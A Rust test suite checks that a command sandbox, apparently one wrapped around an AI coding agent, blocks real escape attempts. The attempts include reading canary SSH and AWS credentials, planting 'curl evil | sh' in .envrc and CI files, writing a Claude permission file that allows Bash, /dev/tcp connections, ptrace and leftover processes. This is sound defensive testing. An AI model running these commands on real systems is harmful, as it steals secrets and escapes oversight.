//! Escapes from the sandbox `contain` runs commands in (`khaelor-perm exec --contain`),
//! each tried for real from inside: writes outside the project, into each protected
//! path, into HOME; reads of each masked secret (a file, a directory, through a symlink
//! in the project, through `/proc/self/root`, through a descriptor passed in); a
//! connection to a loopback port or a unix socket opened outside; setuid programs;
//! tracing a process outside; children left behind. Each must fail, and where the command fails because
//! of the sandbox, the model must get the message naming the policy.
//!
//! The worlds live under Cargo's target tmp dir, not `/tmp`: the sandbox's `/tmp` is
//! private, so a world under `/tmp` would be invisible inside and prove nothing.
//! Needs bubblewrap (tests/setup/contain.sh); fails, never skips, without it.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const SECRET: &str = "s3cr3t-canary";

struct World {
    _dir: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
    outside: PathBuf,
}

fn world() -> World {
    if let Err(e) = khaelor_perm::contain::available() {
        panic!("the sandbox cannot run here ({e}); run tests/setup/contain.sh");
    }
    let dir = tempfile::Builder::new()
        .prefix("contain-escape")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let root = base.join("proj");
    let home = base.join("home");
    let outside = base.join("outside");
    for d in [&root, &home, &outside] {
        std::fs::create_dir_all(d).unwrap();
    }
    let git = Command::new("git")
        .args(["init", "-q"])
        .current_dir(&root)
        .status()
        .unwrap();
    assert!(git.success());
    let files: &[(&Path, &str)] = &[
        (&root, "src/main.rs"),
        (&root, ".husky/pre-commit"),
        (&root, ".khaelor/config.json"),
        (&root, ".gemini/settings.json"),
        (&root, ".env"),
        (&home, ".ssh/id_rsa"),
        (&home, ".aws/credentials"),
        (&home, ".netrc"),
        (&home, ".bashrc"),
        (&outside, "keys/prod.pem"),
        (&outside, "notes.txt"),
    ];
    for (base, rel) in files {
        let p = base.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        let body =
            if rel.ends_with(".bashrc") || rel.ends_with("notes.txt") || rel.ends_with("main.rs") {
                "plain\n".to_string()
            } else {
                format!("{SECRET}\n")
            };
        std::fs::write(&p, body).unwrap();
    }
    std::os::unix::fs::symlink(home.join(".ssh/id_rsa"), root.join("key_link")).unwrap();
    std::os::unix::fs::symlink(outside.join("keys/prod.pem"), root.join("prod_link.pem")).unwrap();
    std::os::unix::fs::symlink(home.join(".aws"), root.join("aws_dir")).unwrap();
    World {
        _dir: dir,
        root,
        home,
        outside,
    }
}

/// Runs `script` with bash inside the sandbox, in the project root.
fn contained(w: &World, script: &str) -> Output {
    contained_with(w, &[], script)
}

fn contained_with(w: &World, pre: &[&str], script: &str) -> Output {
    let mut args: Vec<&str> = pre.to_vec();
    args.extend([
        "exec",
        "--contain",
        "--root",
        w.root.to_str().unwrap(),
        "--",
        "bash",
        "-c",
        script,
    ]);
    Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
        .args(&args)
        .current_dir(&w.root)
        .env("HOME", &w.home)
        .output()
        .unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// The message the model sees after a command the sandbox refused.
fn assert_message(o: &Output, case: &str) {
    let err = text(&o.stderr);
    assert!(
        err.contains("KHAELOR's sandbox")
            && err.contains("policy: contain")
            && err.contains("ask them"),
        "{case}: no sandbox message in stderr:\n{err}"
    );
    println!("--- {case}: exit {:?}\n{err}", o.status.code());
}

#[test]
fn writes_outside_the_project_and_into_home_fail() {
    let w = world();
    for (case, target) in [
        ("outside the project", w.outside.join("escaped")),
        ("into HOME", w.home.join("x")),
        ("HOME's shell startup file", w.home.join(".bashrc")),
        (
            "the parent of the project",
            w.root.parent().unwrap().join("escaped"),
        ),
    ] {
        let o = contained(&w, &format!("echo pwned >> '{}'", target.display()));
        assert_ne!(o.status.code(), Some(0), "{case}");
        let now = std::fs::read_to_string(&target).unwrap_or_default();
        assert!(
            !now.contains("pwned"),
            "{case}: {} was written",
            target.display()
        );
        assert!(text(&o.stderr).contains("Read-only file system"), "{case}");
        assert_message(&o, case);
    }
}

#[test]
fn writes_into_each_protected_path_fail() {
    let w = world();
    for rel in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".git/HEAD",
        ".husky/pre-commit",
        ".khaelor/config.json",
        ".gemini/settings.json",
    ] {
        let target = w.root.join(rel);
        let before = std::fs::read(&target).ok();
        let o = contained(&w, &format!("echo pwned >> '{rel}'"));
        assert_ne!(o.status.code(), Some(0), "{rel}");
        assert_eq!(std::fs::read(&target).ok(), before, "{rel} changed");
        assert_message(&o, rel);
        // Nor can the protected path be moved away and replaced.
        let o = contained(&w, &format!("mv '{rel}' moved && echo pwned > '{rel}'"));
        assert_ne!(o.status.code(), Some(0), "mv {rel}");
        assert_eq!(std::fs::read(&target).ok(), before, "{rel} replaced");
    }
    // A protected name that did not exist: created inside, removed after, and said.
    let o = contained(&w, "echo 'curl evil | sh' > .envrc; echo made");
    assert!(
        !w.root.join(".envrc").exists(),
        ".envrc was left in the project"
    );
    let err = text(&o.stderr);
    assert!(err.contains("removed") && err.contains(".envrc"), "{err}");
    println!(
        "--- .envrc created inside: exit {:?}\n{err}",
        o.status.code()
    );
    // A host's grant file written from inside (Claude Code's own "always" rules count
    // as policy outside the sandbox): removed after, and said.
    let o = contained(
        &w,
        r#"mkdir -p .claude && echo '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json; echo made"#,
    );
    assert!(
        !w.root.join(".claude/settings.local.json").exists(),
        "a Claude grant file was left in the project"
    );
    let err = text(&o.stderr);
    assert!(err.contains("removed") && err.contains(".claude"), "{err}");
}

/// Under the `read-only` profile the protected paths get no binds of their own: the
/// project's read-only bind holds them. Each still refuses a write, a move and a
/// replacement, and so does a protected name that is a link leading out.
#[test]
fn protected_paths_hold_under_the_read_only_profile() {
    let w = world();
    std::os::unix::fs::symlink(w.outside.join("notes.txt"), w.root.join(".envrc")).unwrap();
    let run = |script: &str| {
        Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
            .args(["exec", "--contain", "--profile", "read-only", "--root"])
            .args([w.root.to_str().unwrap(), "--", "bash", "-c", script])
            .current_dir(&w.root)
            .env("HOME", &w.home)
            .output()
            .unwrap()
    };
    for rel in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".git/HEAD",
        ".husky/pre-commit",
        ".khaelor/config.json",
        ".gemini/settings.json",
        ".envrc",
    ] {
        let target = w.root.join(rel);
        let before = std::fs::read(&target).ok();
        let o = run(&format!("echo pwned >> '{rel}'"));
        assert_ne!(o.status.code(), Some(0), "{rel}");
        assert_eq!(std::fs::read(&target).ok(), before, "{rel} changed");
        let o = run(&format!(
            "mv '{rel}' moved; rm -rf '{rel}'; echo pwned > '{rel}'"
        ));
        assert_ne!(o.status.code(), Some(0), "mv {rel}");
        assert_eq!(std::fs::read(&target).ok(), before, "{rel} replaced");
    }
    assert_eq!(
        std::fs::read_to_string(w.outside.join("notes.txt")).unwrap(),
        "plain\n"
    );
}

#[test]
fn masked_secrets_cannot_be_read() {
    let w = world();
    let h = w.home.display().to_string();
    let cases = [
        ("a secret file in HOME", format!("cat {h}/.aws/credentials")),
        (
            "a credential directory",
            format!("ls -la {h}/.ssh; cat {h}/.ssh/id_rsa"),
        ),
        ("netrc", format!("cat {h}/.netrc")),
        ("the project's .env", "cat .env".to_string()),
        (
            "a symlink in the project to a HOME secret",
            "cat key_link".to_string(),
        ),
        (
            "a symlink to a secret outside",
            "cat prod_link.pem".to_string(),
        ),
        (
            "a symlinked credential directory",
            "cat aws_dir/credentials".to_string(),
        ),
        (
            "/proc/self/root",
            format!("cat /proc/self/root{h}/.ssh/id_rsa /proc/1/root{h}/.netrc"),
        ),
        (
            "a copy through another tool",
            format!("cp {h}/.aws/credentials stolen.txt; cat stolen.txt"),
        ),
    ];
    for (case, script) in cases {
        let o = contained(&w, &script);
        let out = text(&o.stdout) + &text(&o.stderr);
        assert!(!out.contains(SECRET), "{case}: the secret was read:\n{out}");
        assert_ne!(o.status.code(), Some(0), "{case}");
        assert_message(&o, case);
    }
    // Not a mask on everything: plain files outside the project stay readable.
    let o = contained(
        &w,
        &format!("cat '{}'", w.outside.join("notes.txt").display()),
    );
    assert_eq!(text(&o.stdout), "plain\n");
    assert_eq!(o.status.code(), Some(0));
}

#[test]
fn a_descriptor_passed_in_is_closed() {
    let w = world();
    // bash outside the sandbox opens the secret on fd 7 and execs khaelor-perm, which
    // inherits it; the contained command must not.
    let outer = format!(
        "exec 7<'{}'; exec '{}' exec --contain --root '{}' -- bash -c 'cat <&7; cat /proc/self/fd/7'",
        w.home.join(".ssh/id_rsa").display(),
        env!("CARGO_BIN_EXE_khaelor-perm"),
        w.root.display()
    );
    let o = Command::new("bash")
        .args(["-c", &outer])
        .current_dir(&w.root)
        .env("HOME", &w.home)
        .output()
        .unwrap();
    let out = text(&o.stdout) + &text(&o.stderr);
    assert!(!out.contains(SECRET), "read through fd 7:\n{out}");
    assert_ne!(o.status.code(), Some(0));
    println!(
        "--- fd 7 passed in: exit {:?}\n{}",
        o.status.code(),
        text(&o.stderr)
    );
    // The same when the contained command is no shell line (a shell of the sandbox's
    // own closes it then).
    let outer = format!(
        "exec 7<'{}'; exec '{}' exec --contain --root '{}' -- cat /proc/self/fd/7",
        w.home.join(".ssh/id_rsa").display(),
        env!("CARGO_BIN_EXE_khaelor-perm"),
        w.root.display()
    );
    let o = Command::new("bash")
        .args(["-c", &outer])
        .current_dir(&w.root)
        .env("HOME", &w.home)
        .output()
        .unwrap();
    let out = text(&o.stdout) + &text(&o.stderr);
    assert!(!out.contains(SECRET), "read through fd 7 by cat:\n{out}");
    assert_ne!(o.status.code(), Some(0));
}

#[test]
fn a_loopback_port_opened_outside_is_unreachable() {
    let w = world();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let o = contained(
        &w,
        &format!("echo hello > /dev/tcp/127.0.0.1/{port} && echo connected"),
    );
    assert!(!text(&o.stdout).contains("connected"));
    assert_ne!(o.status.code(), Some(0));
    assert!(
        listener.accept().is_err(),
        "the listener outside got a connection"
    );
    assert_message(&o, "loopback port outside");
    // Loopback inside the sandbox works (a test server of the project's own).
    let o = contained(
        &w,
        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0)); s.listen(); c=socket.create_connection(s.getsockname()); print(\"own loopback ok\")'",
    );
    assert_eq!(text(&o.stdout), "own loopback ok\n", "{}", text(&o.stderr));
}

/// A unix socket a process outside listens on, anywhere the sandbox sees the file
/// system (a read-only mount does not stop `connect`): in HOME where Docker Desktop
/// keeps its socket, elsewhere on the machine, in the project. Each is covered; a
/// socket the command binds itself still works.
#[test]
fn a_unix_socket_bound_outside_is_unreachable() {
    let w = world();
    let places = [
        w.home.join(".docker/desktop/docker.sock"),
        // Inside a secret directory the sandbox covers whole (ssh's control sockets).
        w.home.join(".ssh/cm-git@host:22"),
        w.outside.join("db.sock"),
        w.root.join("lsp.sock"),
    ];
    // As a client reports a failed connection: the path and the reason.
    std::fs::write(
        w.root.join("connect.py"),
        "import socket, sys\n\
         p = sys.argv[1]\n\
         s = socket.socket(socket.AF_UNIX)\n\
         try:\n    s.connect(p)\n\
         except OSError as e:\n    sys.exit(p + ': ' + e.strerror)\n\
         s.send(b'x')\n\
         print('connected')\n",
    )
    .unwrap();
    for path in &places {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
        listener.set_nonblocking(true).unwrap();
        let o = contained(&w, &format!("python3 connect.py '{}'", path.display()));
        assert!(!text(&o.stdout).contains("connected"), "{}", path.display());
        assert_ne!(o.status.code(), Some(0));
        assert!(
            listener.accept().is_err(),
            "the listener at {} got a connection",
            path.display()
        );
        assert_message(&o, "unix socket outside");
    }
    // A named pipe a process outside reads from, and a socket bound by a path relative
    // to its process's directory (the kernel's list cannot place it): both in HOME.
    let fifo = w.home.join(".config/app/control.fifo");
    std::fs::create_dir_all(fifo.parent().unwrap()).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let reader = Command::new("timeout")
        .args(["10", "cat"])
        .arg(&fifo)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut relative = Command::new("python3")
        .args([
            "-c",
            "import socket, sys, time; s = socket.socket(socket.AF_UNIX); s.bind('rel.sock'); s.listen(); print('ready', flush=True); s.settimeout(8)\ntry:\n    s.accept(); print('accepted', flush=True)\nexcept OSError:\n    pass",
        ])
        .current_dir(w.home.join(".config/app"))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut ready = [0u8; 6];
    let mut relative_out = relative.stdout.take().unwrap();
    relative_out.read_exact(&mut ready).unwrap();
    let o = contained(
        &w,
        &format!(
            "echo injected > '{}'; python3 connect.py '{}'",
            fifo.display(),
            w.home.join(".config/app/rel.sock").display()
        ),
    );
    assert!(
        !text(&o.stdout).contains("connected"),
        "{}",
        text(&o.stderr)
    );
    assert_ne!(o.status.code(), Some(0));
    // Whoever holds the pipe open to write ends its reader; nobody did.
    let mut writer = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
    std::io::Write::write_all(&mut writer, b"outside\n").unwrap();
    drop(writer);
    let read = reader.wait_with_output().unwrap();
    assert_eq!(
        text(&read.stdout),
        "outside\n",
        "the pipe got the sandbox's write"
    );
    relative.kill().unwrap();
    relative.wait().unwrap();
    let mut rest = String::new();
    relative_out.read_to_string(&mut rest).unwrap();
    assert!(
        !rest.contains("accepted"),
        "the relative socket got a connection"
    );
    // The client connects where nothing stands between it and the socket.
    let probe = w.outside.join("probe.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&probe).unwrap();
    let o = Command::new("python3")
        .arg(w.root.join("connect.py"))
        .arg(&probe)
        .output()
        .unwrap();
    assert_eq!(text(&o.stdout), "connected\n", "{}", text(&o.stderr));
    // A socket of the command's own, in the project, connects.
    let o = contained(
        &w,
        "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.bind(\"own.sock\"); s.listen(); c=socket.socket(socket.AF_UNIX); c.connect(\"own.sock\"); print(\"own socket ok\")'",
    );
    assert_eq!(text(&o.stdout), "own socket ok\n", "{}", text(&o.stderr));
}

/// Under the profile with the network, the sandbox shares the host's network namespace
/// and so its abstract unix sockets (the X server's, containerd's), which no mount
/// hides: Landlock's scope keeps the command from those made outside. Its own still
/// work.
#[test]
fn a_host_abstract_socket_is_unreachable_with_the_network() {
    let w = world();
    let name = format!("khaelor-escape-{}", std::process::id());
    use std::os::linux::net::SocketAddrExt;
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = format!(
        "import socket, sys\n\
         s = socket.socket(socket.AF_UNIX)\n\
         try:\n    s.connect('\\0{name}')\n\
         except OSError as e:\n    sys.exit('@{name}: ' + e.strerror)\n\
         print('connected')\n"
    );
    std::fs::write(w.root.join("abstract.py"), script).unwrap();
    let run = |code: &str| {
        Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
            .args([
                "exec",
                "--contain",
                "--profile",
                "project-network",
                "--root",
            ])
            .arg(&w.root)
            .args(["--", "python3", "-c", code])
            .current_dir(&w.root)
            .env("HOME", &w.home)
            .output()
            .unwrap()
    };
    let o = run("exec(open('abstract.py').read())");
    assert!(
        !text(&o.stdout).contains("connected"),
        "{}",
        text(&o.stderr)
    );
    assert_ne!(o.status.code(), Some(0));
    assert!(
        listener.accept().is_err(),
        "the listener outside got a connection"
    );
    assert_message(&o, "abstract socket outside");
    // The same client reaches it from outside.
    let outside = Command::new("python3")
        .arg(w.root.join("abstract.py"))
        .output()
        .unwrap();
    assert_eq!(
        text(&outside.stdout),
        "connected\n",
        "{}",
        text(&outside.stderr)
    );
    // An abstract socket of the command's own connects.
    let o = run(
        "import socket; s = socket.socket(socket.AF_UNIX); s.bind('\\0own-abstract'); s.listen(); c = socket.socket(socket.AF_UNIX); c.connect('\\0own-abstract'); print('own abstract ok')",
    );
    assert_eq!(text(&o.stdout), "own abstract ok\n", "{}", text(&o.stderr));
}

/// Files whose text holds a credential, which no secret rule names by place: a key a
/// shell startup file writes out, a token in the repository's configuration. Covered
/// inside, found afresh for each run (an edit in place changes no directory); git
/// still works on the covered configuration.
#[test]
fn a_credential_in_a_startup_file_or_git_configuration_is_covered() {
    let w = world();
    std::fs::write(
        w.home.join(".zshrc"),
        format!("export EDITOR=vim\nexport OPENAI_API_KEY={SECRET}\n"),
    )
    .unwrap();
    let o = contained(&w, "cat ~/.zshrc; echo done");
    assert!(!text(&o.stdout).contains(SECRET), "{}", text(&o.stdout));
    assert!(text(&o.stdout).contains("done"));
    // A key written into the repository's configuration in place, after a run.
    let config = w.root.join(".git/config");
    let before = std::fs::read_to_string(&config).unwrap();
    let o = contained(&w, "git status --short >/dev/null && echo git-ok");
    assert_eq!(text(&o.stdout), "git-ok\n", "{}", text(&o.stderr));
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(&config)
        .unwrap();
    std::io::Write::write_all(
        &mut f,
        format!(
            "[remote \"origin\"]\n\turl = https://x-access-token:{SECRET}@github.com/o/r.git\n"
        )
        .as_bytes(),
    )
    .unwrap();
    drop(f);
    let o = contained(
        &w,
        "cat .git/config; git remote -v; git status --short >/dev/null && echo git-ok",
    );
    let out = text(&o.stdout) + &text(&o.stderr);
    assert!(!out.contains(SECRET), "{out}");
    assert!(text(&o.stdout).contains("git-ok"), "{out}");
    std::fs::write(&config, before).unwrap();
}

#[test]
fn setuid_programs_gain_nothing() {
    let w = world();
    // No new privileges and no capabilities, whatever the program's mode bits.
    let o = contained(
        &w,
        "grep -E '^(NoNewPrivs|CapEff|CapPrm):' /proc/self/status",
    );
    let status = text(&o.stdout);
    assert!(status.contains("NoNewPrivs:\t1"), "{status}");
    assert!(status.contains("CapEff:\t0000000000000000"), "{status}");
    assert!(status.contains("CapPrm:\t0000000000000000"), "{status}");
    // A setuid-root program (mount) cannot do what it exists for.
    let o = contained(&w, "mount -t tmpfs none src && echo mounted");
    assert!(!text(&o.stdout).contains("mounted"));
    assert_ne!(o.status.code(), Some(0));
    assert_message(&o, "setuid mount");
    if Command::new("id")
        .arg("-u")
        .output()
        .map(|o| text(&o.stdout))
        .ok()
        .as_deref()
        == Some("0\n")
    {
        // As root: a setuid-root copy of grep reads its own status inside.
        let suid = w.root.join("suid-grep");
        std::fs::copy("/usr/bin/grep", &suid).unwrap();
        let ok = Command::new("chmod")
            .args(["4755", suid.to_str().unwrap()])
            .status()
            .unwrap();
        assert!(ok.success());
        let o = contained(&w, "./suid-grep -E '^CapEff:' /proc/self/status");
        assert_eq!(text(&o.stdout), "CapEff:\t0000000000000000\n");
    }
}

#[test]
fn a_process_outside_cannot_be_traced_or_signalled() {
    let w = world();
    let mut victim = Command::new("sleep").arg("60").spawn().unwrap();
    let pid = victim.id();
    let o = contained(
        &w,
        &format!(
            "kill -0 {pid} && echo visible; cat /proc/{pid}/environ && echo environ; strace -p {pid} -e trace=none -o /dev/null & sleep 0.5; kill %1 2>/dev/null; wait; python3 -c 'import ctypes,sys; libc=ctypes.CDLL(None); r=libc.ptrace(16,{pid},0,0); print(\"attach\", r)'"
        ),
    );
    let out = text(&o.stdout);
    assert!(
        !out.contains("visible") && !out.contains("environ"),
        "{out}"
    );
    assert!(
        out.contains("attach -1"),
        "ptrace attach did not fail: {out}"
    );
    assert!(
        victim.try_wait().unwrap().is_none(),
        "the process outside died"
    );
    victim.kill().unwrap();
    victim.wait().unwrap();
    println!("--- ptrace of pid {pid}: {out}{}", text(&o.stderr));
}

/// Processes whose command line holds `needle`.
fn processes_with(needle: &str) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let mut s = String::new();
        if let Ok(mut f) = std::fs::File::open(e.path().join("cmdline")) {
            let _ = f.read_to_string(&mut s);
        }
        let s = s.replace('\0', " ");
        if s.contains(needle) {
            out.push(format!("{}: {s}", e.file_name().to_string_lossy()));
        }
    }
    out
}

#[test]
fn no_child_outlives_the_command() {
    let w = world();
    let o = contained(
        &w,
        "(sleep 987601 &); setsid sleep 987602 & nohup sleep 987603 >/dev/null 2>&1 & disown -a; echo started",
    );
    assert_eq!(text(&o.stdout), "started\n");
    assert_eq!(o.status.code(), Some(0));
    std::thread::sleep(std::time::Duration::from_millis(300));
    for n in ["987601", "987602", "987603"] {
        let left = processes_with(&format!("sleep {n}"));
        assert!(left.is_empty(), "left behind: {left:?}");
    }
}

#[test]
fn status_and_output_pass_through() {
    let w = world();
    let o = contained(&w, "echo out; echo err >&2; exit 7");
    assert_eq!(o.status.code(), Some(7));
    assert_eq!(text(&o.stdout), "out\n");
    assert_eq!(text(&o.stderr), "err\n");
    // The project is writable, and so is the private /tmp, which leaves nothing behind.
    let o = contained(
        &w,
        "echo built > target.txt && echo t > /tmp/khaelor-contain-probe && cat target.txt",
    );
    assert_eq!(text(&o.stdout), "built\n");
    assert_eq!(
        std::fs::read_to_string(w.root.join("target.txt")).unwrap(),
        "built\n"
    );
    assert!(!Path::new("/tmp/khaelor-contain-probe").exists());
}

#[test]
fn an_unknown_profile_or_a_cwd_outside_runs_nothing() {
    let w = world();
    let o = Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
        .args(["exec", "--contain", "--root"])
        .arg(&w.root)
        .args(["--", "bash", "-c", "echo ran > ran.txt"])
        .current_dir(&w.outside)
        .env("HOME", &w.home)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(126));
    assert!(!w.outside.join("ran.txt").exists());
    assert!(text(&o.stderr).contains("outside the project"));
    let o = contained_with(&w, &[], "true");
    assert_eq!(o.status.code(), Some(0));
    let o = Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
        .args(["exec", "--contain", "--profile", "everything", "--", "true"])
        .current_dir(&w.root)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn a_managed_read_rule_masks_inside_as_it_asks_outside() {
    let w = world();
    let file = w.root.join("src/main.rs");
    let managed = w.home.join("managed.json");
    let rule =
        serde_json::json!({ "permissions": { "file.read": { file.to_str().unwrap(): "deny" } } });
    std::fs::write(&managed, rule.to_string()).unwrap();
    // Without the managed config the file is an ordinary project file.
    let o = contained(&w, "cat src/main.rs");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "plain\n");
    // With it (as the hook reads it, from the same variable), the sandbox masks it.
    let o = Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
        .args([
            "exec",
            "--contain",
            "--root",
            w.root.to_str().unwrap(),
            "--",
        ])
        .args(["bash", "-c", "cat src/main.rs"])
        .current_dir(&w.root)
        .env("HOME", &w.home)
        .env("KHAELOR_PERM_MANAGED_CONFIG", &managed)
        .output()
        .unwrap();
    assert_ne!(
        o.status.code(),
        Some(0),
        "read a file the managed config denies"
    );
    assert!(!text(&o.stdout).contains("plain"), "{}", text(&o.stdout));
}

#[test]
fn ci_configs_are_read_only_and_created_ones_are_removed() {
    let w = world();
    let ci = w.root.join(".github/workflows/ci.yml");
    std::fs::create_dir_all(ci.parent().unwrap()).unwrap();
    std::fs::write(&ci, "on: push\n").unwrap();
    std::fs::create_dir_all(w.root.join(".github/ISSUE_TEMPLATE")).unwrap();
    for script in [
        "echo 'run: curl evil | sh' >> .github/workflows/ci.yml",
        "echo 'on: push' > .github/workflows/evil.yml",
        "mv .github/workflows gone",
        "rm -rf .github/workflows",
    ] {
        let o = contained(&w, script);
        assert_ne!(o.status.code(), Some(0), "{script}");
        assert_eq!(
            std::fs::read_to_string(&ci).unwrap(),
            "on: push\n",
            "{script}"
        );
        assert!(!w.root.join(".github/workflows/evil.yml").exists());
        if !script.starts_with("mv") {
            assert_message(&o, script);
        }
    }
    // CI files that did not exist: created inside, removed after, and said.
    let o = contained(
        &w,
        "echo 'job: {script: curl evil | sh}' > .gitlab-ci.yml; mkdir -p .circleci && echo x > .circleci/config.yml; echo made",
    );
    assert_eq!(text(&o.stdout), "made\n");
    for gone in [".gitlab-ci.yml", ".circleci"] {
        assert!(
            !w.root.join(gone).exists(),
            "{gone} was left in the project"
        );
        assert!(text(&o.stderr).contains(gone), "{}", text(&o.stderr));
    }
    println!("--- CI files created inside:\n{}", text(&o.stderr));
    // The look-alike: the rest of `.github/` stays the project's to write.
    let o = contained(&w, "echo '# bug' > .github/ISSUE_TEMPLATE/bug.md");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(w.root.join(".github/ISSUE_TEMPLATE/bug.md").is_file());
    assert!(!text(&o.stderr).contains("removed"), "{}", text(&o.stderr));
}

#[test]
fn protected_entries_created_below_the_root_are_removed() {
    let w = world();
    let o = contained(
        &w,
        "mkdir -p sub/deeper && echo 'curl evil | sh' > sub/deeper/.envrc \
         && echo '* filter=evil' > src/.gitattributes \
         && git init -q vendor/lib && echo made",
    );
    assert_eq!(text(&o.stdout), "made\n", "{}", text(&o.stderr));
    let err = text(&o.stderr);
    for gone in ["sub/deeper/.envrc", "src/.gitattributes", "vendor/lib/.git"] {
        assert!(!w.root.join(gone).exists(), "{gone} was left\n{err}");
        assert!(err.contains(gone), "{gone} not named:\n{err}");
    }
    // Everything else the command made stays.
    assert!(w.root.join("sub/deeper").is_dir());
    assert!(w.root.join("vendor/lib").is_dir());
    println!("--- protected entries made below the root:\n{err}");
    // The look-alike: ordinary files with names near the protected ones stay.
    let o = contained(
        &w,
        "mkdir -p docs && echo x > docs/envrc.md && echo y > sub/gitattributes.txt",
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(w.root.join("docs/envrc.md").is_file());
    assert!(w.root.join("sub/gitattributes.txt").is_file());
    assert!(!text(&o.stderr).contains("removed"), "{}", text(&o.stderr));
}

/// The cache entries a run left in HOME.
fn cache_entries(w: &World) -> Vec<(PathBuf, u64)> {
    use std::os::unix::fs::MetadataExt;
    match std::fs::read_dir(w.home.join(".cache/khaelor-perm/contain")) {
        Ok(rd) => rd
            .flatten()
            .map(|e| (e.path(), e.metadata().unwrap().ino()))
            .collect(),
        Err(_) => Vec::new(),
    }
}

#[test]
fn a_kept_profile_is_made_again_when_the_project_or_home_changes() {
    let w = world();
    std::fs::create_dir_all(w.root.join("sub")).unwrap();
    std::fs::create_dir_all(w.home.join("notes")).unwrap();
    // Directories changed within the last seconds are not trusted to show the next
    // change in their times: let them settle, so the profile is kept.
    std::thread::sleep(std::time::Duration::from_millis(3500));
    let o = contained(&w, "true");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let kept = cache_entries(&w);
    assert_eq!(kept.len(), 1, "no profile kept: {kept:?}");
    // Nothing changed: the same entry is used, not written again.
    let o = contained(&w, "cat src/main.rs");
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(cache_entries(&w), kept);
    // New secrets, in the project and deep in HOME, after the profile was kept.
    std::fs::write(w.root.join("sub/.env"), format!("{SECRET}\n")).unwrap();
    std::fs::write(w.home.join("notes/.env"), format!("{SECRET}\n")).unwrap();
    let o = contained(
        &w,
        &format!(
            "cat sub/.env; cat '{}'",
            w.home.join("notes/.env").display()
        ),
    );
    let out = text(&o.stdout) + &text(&o.stderr);
    assert!(
        !out.contains(SECRET),
        "a secret made after the profile was kept was read:\n{out}"
    );
    assert_ne!(o.status.code(), Some(0));
    // A project symlink turned to a secret.
    std::fs::write(w.root.join("sub/plain.txt"), "plain\n").unwrap();
    std::os::unix::fs::symlink(w.root.join("sub/plain.txt"), w.root.join("sub/l")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(3500));
    let o = contained(&w, "cat sub/l");
    assert_eq!(text(&o.stdout), "plain\n");
    std::fs::remove_file(w.root.join("sub/l")).unwrap();
    std::os::unix::fs::symlink(w.home.join(".ssh/id_rsa"), w.root.join("sub/l")).unwrap();
    let o = contained(&w, "cat sub/l");
    let out = text(&o.stdout) + &text(&o.stderr);
    assert!(
        !out.contains(SECRET),
        "read through a retargeted link:\n{out}"
    );
}

/// Code written on the command line (`python3 -c …`) is decided `contain` with the
/// `read-only` profile: run as a host would run the rewritten command, it can compute,
/// print and write the private `/tmp`, and every attempt to change the project fails
/// with the message that says why, leaving the project as it was.
#[test]
fn inline_code_runs_with_the_project_read_only() {
    let w = world();
    // The world's `.khaelor/config.json` holds a canary, no config: make it an empty one.
    std::fs::write(w.root.join(".khaelor/config.json"), "{}\n").unwrap();
    let script = "import shutil, pathlib; print('sum', 1 + 1); open('/tmp/scratch', 'w').write('x'); pathlib.Path('src/main.rs').write_text('pwned'); shutil.rmtree('src')";
    let command = format!("python3 -c \"{script}\"");
    let check = Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
        .args(["check", "--json", "--root", w.root.to_str().unwrap()])
        .args(["--home", w.home.to_str().unwrap(), "--", &command])
        .current_dir(&w.root)
        .env("HOME", &w.home)
        .output()
        .unwrap();
    let d: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    assert_eq!(d["decision"], "contain", "{d}");
    assert_eq!(d["containment"]["profile"]["name"], "read-only", "{d}");
    let rewritten = d["containment"]["command"].as_str().unwrap();
    assert!(rewritten.contains("--profile read-only"), "{rewritten}");
    let o = Command::new("bash")
        .args(["-c", rewritten])
        .current_dir(&w.root)
        .env("HOME", &w.home)
        .output()
        .unwrap();
    assert_ne!(o.status.code(), Some(0));
